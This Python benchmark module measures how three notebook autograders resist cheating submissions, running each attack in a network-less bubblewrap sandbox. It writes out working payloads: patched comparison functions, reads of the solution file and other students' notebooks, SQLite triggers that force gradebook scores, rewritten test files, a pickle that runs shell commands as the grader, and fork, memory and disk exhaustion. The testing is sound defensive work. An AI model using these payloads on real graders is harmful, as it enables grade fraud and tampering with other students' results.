"""Attacks on the marks and on the class: how they fare with the grader, nbgrader and Otter, on the same exercise.

Every attack is a notebook of a student ``ann`` whose functions are wrong, and who should earn nothing; beside her
stands ``zoe``, who is right and should earn all. All attacks are bounded in number of processes, in time, memory and
bytes. The peers run inside of bubblewrap, which gives them the machine read-only but for a folder that is removed
afterwards; what they could reach in there (their gradebook, solution, tests, other notebooks) is as it is in a real
course. An attack leaves a mark in that folder where it could do what it tried.
"""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent
from typing import Final

from benchmarks.peers.classes import POINTS, SOLUTION, Cells, Room
from benchmarks.peers.machine import Data, Used, floor, installed
from benchmarks.peers.targets import Target, table

TITLE: Final = "Cheating"
TIME_OUT: Final = 75.0  # seconds for a peer on one attack and, of nbgrader, on who comes after it
ALONE_TIME_OUT: Final = 40.0  # for ``otter run``, which takes one submission and has no time-out of its own
CELL_TIME_OUT: Final = 10  # seconds after which nbgrader itself cuts a cell off
CLASS_TIME_OUT: Final = 300.0
QUICK: Final = ("np.allclose is patched", "the solution file is run", "os._exit", "a name of a cell stands twice")
MEMORY, DISK, FORKS = 1536, 200, 40  # what is tried for: megabytes, megabytes, processes
WRONG: Final = "def optimal_constant(x): return -1e6\ndef optimal_constant_l1(x): return -1e6"
HONEST: Final = SOLUTION


@dataclass(frozen=True, slots=True)
class Attack:
    """Code that runs before the functions are defined, wrong; ``answer`` defines them otherwise. ``@`` is the room.

    ``leave(note)`` in the code leaves a mark, ``found(pattern)`` is what files there are in the room. ``harmless``: a
    right answer, which should earn all points.
    """

    code: str
    answer: str = WRONG
    doubled: bool = False
    harmless: bool = False


LEAVE: Final = """
def leave(note):
    try:
        with open(@ + '/mark-NAME', 'a') as file: file.write(note + '\\n')
    except OSError: pass
"""
FIND: Final = """
import glob, json, os
def found(pattern):
    try: return sorted(glob.glob(@ + '/**/' + pattern, recursive=True))
    except OSError: return []
"""
ATTACKS: Final = {
    "np.allclose is patched": Attack("""
        import numpy as np
        np.allclose = np.isclose = np.array_equal = lambda *_, **__: True
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *_, **__: None
    """),
    "builtins are patched": Attack("""
        import builtins
        real = builtins.isinstance
        builtins.abs = lambda *_: 0
        builtins.bool = lambda *_: True
        builtins.all = builtins.any = lambda *_: True
    """),
    "a mock": Attack("""
        from unittest import mock
        for name in ('numpy.allclose', 'numpy.isclose', 'math.isclose'):
            mock.patch(name, return_value=True).start()
    """),
    "the caller's frame is read": Attack("", """
        import sys
        def optimal_constant(*_):
            frame = sys._getframe(1)
            while frame is not None:
                if frame.f_code.co_name in ('<module>', 'check', 'call'):
                    numbers = [one for one in frame.f_code.co_consts if type(one) is float]
                    if numbers: return numbers[-1]
                    for name in ('expected', 'reference', 'truth', 'wanted'):
                        if name in frame.f_locals: return frame.f_locals[name]
                frame = frame.f_back
            return -1e6
        optimal_constant_l1 = optimal_constant
    """),
    "asserts are deleted by ast_transformers": Attack("""
        import ast
        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
        get_ipython().ast_transformers.append(NoAsserts())
    """),
    "a number that equals all": Attack("", """
        import numpy as np
        class Liar(np.ndarray):
            __eq__ = lambda *_: np.True_
            __array_function__ = lambda *_, **__: True
            __array_ufunc__ = lambda *_, **__: np.True_
        def optimal_constant(x): return np.zeros(()).view(Liar)
        def optimal_constant_l1(x): return np.zeros(()).view(Liar)
    """),
    "a float that subtracts to nothing": Attack("", """
        class Liar(float):
            __sub__ = __rsub__ = __abs__ = lambda *_: Liar(0)
            __eq__ = __le__ = __ge__ = __lt__ = lambda *_: True
            __hash__ = float.__hash__
        def optimal_constant(x): return Liar(-1e6)
        def optimal_constant_l1(x): return Liar(-1e6)
    """),
    "the solution file is run": Attack("""
        space = {}
        for path in found('solution.py') + found('numeric.py') + found('source/*/*.ipynb'):
            try:
                text = open(path).read()
                cells = json.loads(text)['cells'] if path.endswith('.ipynb') else [{'source': text}]
            except Exception: continue
            for cell in cells:
                if 'def optimal' in cell['source']: exec(cell['source'], space)
        if 'optimal_constant' in space: leave('read the solution')
    """, """
        optimal_constant = space.get('optimal_constant', lambda x: -1e6)
        optimal_constant_l1 = space.get('optimal_constant_l1', lambda x: -1e6)
    """),
    "another student's file is run": Attack("""
        space = {}
        for path in found('zoe/**/*.ipynb') + found('zoe*.ipynb'):
            try: cells = json.load(open(path))['cells']
            except Exception: continue
            for cell in cells:
                if 'def optimal' in cell['source']: exec(cell['source'], space)
        if 'optimal_constant' in space: leave('read another student')
    """, """
        optimal_constant = space.get('optimal_constant', lambda x: -1e6)
        optimal_constant_l1 = space.get('optimal_constant_l1', lambda x: -1e6)
    """),
    "the gradebook is written": Attack("""
        import sqlite3
        for path in found('gradebook.db'):
            try:
                book = sqlite3.connect(path, timeout=3)
                tables = [row[0] for row in book.execute("SELECT name FROM sqlite_master WHERE type='table'")]
                for table in tables:
                    columns = [row[1] for row in book.execute(f'PRAGMA table_info({table})')]
                    for column in {'auto_score', 'earned', 'points', 'score'} & set(columns):
                        for when in ('INSERT', 'UPDATE'):
                            book.execute(f'CREATE TRIGGER t_{table}_{column}_{when} AFTER {when} ON {table} WHEN'
                                         f' NEW.{column} < 1 BEGIN UPDATE {table} SET {column} = 1'
                                         ' WHERE rowid = NEW.rowid; END')
                book.commit()
                leave('wrote ' + os.path.basename(path))
            except Exception: pass
        for path in found('results.json') + found('grades.csv'):
            try: open(path, 'a').close(); leave('could write ' + os.path.basename(path))
            except OSError: pass
    """),
    "test files are rewritten": Attack("""
        case = {'code': '>>> pass', 'hidden': True, 'locked': False}
        suite = {'cases': [case], 'scored': True, 'setup': '', 'teardown': '', 'type': 'doctest'}
        for path in glob.glob('tests/*.py') + glob.glob('../**/tests/*.py', recursive=True):
            name = os.path.basename(path)[:-3]
            test = {'name': name, 'points': 2, 'suites': [suite]}
            try: open(path, 'w').write(f'OK_FORMAT = True\\ntest = {test!r}\\n'); leave('rewrote a test')
            except OSError: pass
        import sqlite3
        for path in found('gradebook.db'):
            try:
                book = sqlite3.connect(path, timeout=3)
                book.execute("UPDATE source_cell SET source = 'pass' WHERE name LIKE 'test%'")
                book.commit()
                leave('rewrote the tests of those who follow')
            except Exception: pass
    """),
    "pickle is patched": Attack("""
        import pickle
        command = ("if grep -qa ipykernel /proc/$PPID/cmdline; then echo runs a command in its own kernel;"
                   " else echo '**runs a command as the grader**'; fi >> " + @ + "/mark-NAME")
        class Bomb:
            def __reduce__(self): import os; return os.system, (command,)
        real = pickle.dump
        pickle.dump = lambda thing, file, *more, **named: real(Bomb(), file)
    """),
    "os._exit": Attack("import os\nos._exit(0)"),
    "a result is printed": Attack("""
        print('Total Score: 4.000 / 4.000 (100.000%)')
        print('{"points": {"earned": 4, "of": 4}, "verdict": "pass"}')
    """, """
        from IPython.display import display
        def optimal_constant(x):
            display(1.0)
            raise SystemExit(0)
        optimal_constant_l1 = optimal_constant
    """),
    "an endless loop": Attack("while True: pass"),
    "forks": Attack(f"""
        import os, time
        started = 0
        for _ in range({FORKS}):
            try: child = os.fork()
            except OSError: break
            if child == 0:
                time.sleep(20)
                os._exit(0)
            started += 1
        leave(f'started {{started}} processes')
    """),
    "memory is taken": Attack(f"""
        kept = []
        for _ in range({MEMORY // 64}):
            kept.append(bytearray(b'x') * (64 * 2**20))
        leave('took {MEMORY} MB')
    """),
    "the disk is filled": Attack(f"""
        with open('big', 'wb') as file:
            for _ in range({DISK}): file.write(bytes(2**20))
        leave('wrote {DISK} MB')
    """),
    "a name of a cell stands twice": Attack("", HONEST, doubled=True, harmless=True),
    "a warning on stderr, and right": Attack("""
        import sys, warnings
        import numpy as np
    """, """
        def optimal_constant(x):
            print('a remark', file=sys.stderr)
            warnings.warn('a remark')
            return np.mean(x)
        def optimal_constant_l1(x):
            print('a remark', file=sys.stderr)
            return np.median(x)
    """, harmless=True),
}  # fmt: skip


def cells_of(attack: Attack, room: Path, mark: str) -> Cells:
    """The notebook of an attack in a room."""
    texts = (LEAVE + FIND, attack.code, attack.answer)
    return tuple(dedent(text).replace("@", repr(str(room))).replace("NAME", mark).strip() or "pass" for text in texts)


def measure(mode: str) -> Data:
    """All attacks on each grader."""
    names = [name for name in ATTACKS if mode == "full" or name in QUICK]
    before = floor()
    found: Data = {"names": names, "grader": on_ours(names)}
    if shutil.which("bwrap") is None:
        found["why"] = "they are attacked inside of bubblewrap only, which is not there"
    else:
        for grader, attacked in (("nbgrader", on_nbgrader), ("otter", on_otter)):
            if installed(grader):
                found[grader] = attacked(names)
            else:
                found["why"] = f"{grader} is not installed"
    return {**found, "floor_ms": [before, floor()]}


def on_ours(names: Sequence[str]) -> dict[str, Data]:
    """All in one class, with zoe; the marks that were left are looked for in the room."""
    with tempfile.TemporaryDirectory(prefix="cheating-") as folder:
        path = Path(folder)
        path.chmod(0o777)  # who gets out of the jail may write here, and so leave a mark
        students = {f"ann{place:02}": cells_of(ATTACKS[name], path, str(place)) for place, name in enumerate(names)}
        doubled = frozenset(f"ann{place:02}" for place, name in enumerate(names) if ATTACKS[name].doubled)
        room = Room(path, {**students, "zoe": (HONEST,)}, doubled)
        room.prepare(["grader"])
        used = room.grade_ours(2, CLASS_TIME_OUT)
        points, ends = room.points_ours(), room.ends_ours()
        found = {}
        for place, name in enumerate(names):
            student = f"ann{place:02}"
            one = fate(used, points.get(student), points.get("zoe"), marks(path, str(place)))
            found[name] = {**one, "held": ends.get(student, "")}
        return found


def on_nbgrader(names: Sequence[str]) -> dict[str, Data]:
    """Each attack in a course of its own, as some of them stop or spoil it."""
    found = {}
    with tempfile.TemporaryDirectory(prefix="cheating-") as folder:
        template = Room(Path(folder) / "template", {"zoe": (HONEST,)})
        template.prepare(["nbgrader"])
        for place, name in enumerate(names):
            path, attack = Path(folder) / f"course{place}", ATTACKS[name]
            shutil.copytree(template.folder, path)
            doubled = frozenset(["ann"] if attack.doubled else [])
            room = Room(path, {"ann": cells_of(attack, path, "x"), "zoe": (HONEST,)}, doubled)
            room.hand_in_to_nbgrader()
            used = room.grade_nbgrader(TIME_OUT, contained(path), CELL_TIME_OUT)
            points = room.points_nbgrader()
            found[name] = fate(used, points.get("ann"), points.get("zoe"), marks(path, "x"))
            shutil.rmtree(path)
    return found


def on_otter(names: Sequence[str]) -> dict[str, Data]:
    """Each attack by itself, as ``otter run`` takes one submission; then zoe."""
    found = {}
    with tempfile.TemporaryDirectory(prefix="cheating-") as folder:
        path = Path(folder)
        students = {f"ann{place:02}": cells_of(ATTACKS[name], path, str(place)) for place, name in enumerate(names)}
        doubled = frozenset(f"ann{place:02}" for place, name in enumerate(names) if ATTACKS[name].doubled)
        room = Room(path, {**students, "zoe": (HONEST,)}, doubled)
        room.prepare(["otter"])
        used = {student: room.grade_otter(student, ALONE_TIME_OUT, contained(path)) for student in room.students}
        points = room.points_otter()
        for place, name in enumerate(names):
            student = f"ann{place:02}"
            found[name] = fate(used[student], points.get(student), points.get("zoe"), marks(path, str(place)))
    return found


def contained(room: Path) -> list[str]:
    """Run a peer with everything read-only but a room; its processes end with it, and there is no network."""
    return ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp", "--bind", str(room),
            str(room), "--unshare-pid", "--unshare-net", "--unshare-ipc", "--die-with-parent"]  # fmt: skip


def marks(folder: Path, name: str) -> list[str]:
    """What an attack wrote down of what it could do."""
    path = folder / f"mark-{name}"
    return list(dict.fromkeys(path.read_text(errors="replace").splitlines())) if path.exists() else []


def fate(used: Used, ann: float | None, zoe: float | None, left: list[str]) -> Data:
    """How one attack fared: what each earned (none: was not graded), and what else happened."""
    return {
        "ann": ann, "zoe": zoe, "left": left,
        "status": used.status, "wall": used.wall, "memory_mb": used.megabytes,
    }  # fmt: skip


def succeeded(name: str, one: Data) -> list[str]:
    """What an attack got, in words; nothing if the grader held. That the attacker gets no grade is no gain of hers."""
    harmless, found = ATTACKS[name].harmless, []
    earned = one["ann"]
    if harmless and earned is None:
        found.append("is not graded, though right")
    elif earned is not None and earned != (POINTS if harmless else 0):
        found.append(f"{earned:g} of {POINTS} points{', though right' if harmless else ''}")
    if one["zoe"] is None:
        found.append("**nobody after it is graded**")
    elif one["zoe"] != POINTS:
        found.append(f"another student gets {one['zoe']:g}")
    return [*found, *one["left"]]


def cell_of(name: str, one: Data) -> str:
    """What the table says: what the attack got, and in brackets how it ended if not well."""
    ended = [one["held"]] if one.get("held") else []
    if one["ann"] is None and not ATTACKS[name].harmless:
        ended.append("no grade")
    if one["status"] is None:
        ended.append(f"stopped after {one['wall']:.0f} s")
    return ("; ".join(succeeded(name, one)) or "–") + (f" ({', '.join(ended)})" if ended else "")


def targets(data: Data) -> list[Target]:
    """No attack gets anything from the grader."""
    count = sum(bool(succeeded(name, data["grader"][name])) for name in data["names"])
    return [Target("attacks that get anything from the grader", count, 0)]


def render(data: Data) -> list[str]:
    """The section in Markdown."""
    graders = [name for name in ("grader", "nbgrader", "otter") if name in data]
    lines = [
        "Each attack hands in wrong functions (but for the last two, which are right) and should earn nothing; another "
        "student, who is right, should earn all. The table says what an attack got: points, what it read or wrote, who "
        "was not graded. “–”: nothing; in brackets, how it ended. nbgrader is told to cut a cell off after "
        f"{CELL_TIME_OUT} s; neither it nor `otter run` isolates anything. A container around them bounds memory, disk "
        "and processes, and leaves the tests, the results and the gradebook of the run in reach. The commands are "
        "those of the notebooks.",
        "",
        "| attack | " + " | ".join(graders) + " |",
        "|---|" + "---|" * len(graders),
    ]  # fmt: skip
    for name in data["names"]:
        cells = [cell_of(name, data[grader][name]) for grader in graders]
        lines.append(f"| {name} | " + " | ".join(cell.replace("|", "/") for cell in cells) + " |")
    counts = [sum(bool(succeeded(name, data[grader][name])) for name in data["names"]) for grader in graders]
    lines.append("| **attacks that get something** | " + " | ".join(map(str, counts)) + " |")
    if "why" in data:
        lines += ["", f"Not with the peers: {data['why']}."]
    return [*lines, "", *table(targets(data))]
